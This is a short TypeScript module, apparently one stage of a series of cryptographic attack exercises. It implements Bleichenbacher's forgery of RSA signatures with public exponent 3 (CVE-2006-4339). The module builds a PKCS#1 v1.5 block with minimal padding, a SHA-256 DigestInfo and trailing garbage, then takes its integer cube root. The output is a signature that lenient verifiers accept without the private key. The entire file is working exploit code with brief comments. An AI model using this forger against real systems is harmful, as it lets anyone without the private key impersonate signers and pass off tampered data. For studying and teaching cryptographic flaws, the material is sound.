/** Floor 2: a signature that nobody made: where the public exponent is 3, a cube root is enough (CVE-2006-4339). */
import { createHash, type KeyObject } from 'node:crypto';

/** DigestInfo of SHA-256 up to the digest (RFC 8017 9.2, note 1). */
const DIGEST_INFO = '3031300d060960864801650304020105000420';

/** The smallest number whose cube is not smaller. */
function cubeRoot(number: bigint): bigint {
  let low = 0n;
  let high = 1n << BigInt(Math.ceil(number.toString(2).length / 3) + 1);
  while (low < high) {
    const middle = (low + high) / 2n;
    if (middle ** 3n < number) low = middle + 1n;
    else high = middle;
  }
  return low;
}

/**
 * A value whose cube begins as the padded digest does, with less padding and rubbish behind it. The private key is not
 * needed.
 *
 * @param key - a public key, or a private one of which only the size is read
 * @returns base64
 */
export function forgeByCubeRoot(text: string, key: KeyObject): string {
  const bits = key.asymmetricKeyDetails?.modulusLength ?? 0;
  const digest = createHash('sha256').update(text).digest('hex');
  // Whole octets for the block: 00 01, the least padding that RFC 8017 has, 00, DigestInfo.
  const start = `0001${'ff'.repeat(8)}00${DIGEST_INFO}${digest}`;
  const block = start.padEnd(bits / 4, '0');
  const value = cubeRoot(BigInt(`0x${block}`)).toString(16);
  return Buffer.from(value.padStart(bits / 4, '0'), 'hex').toString('base64');
}
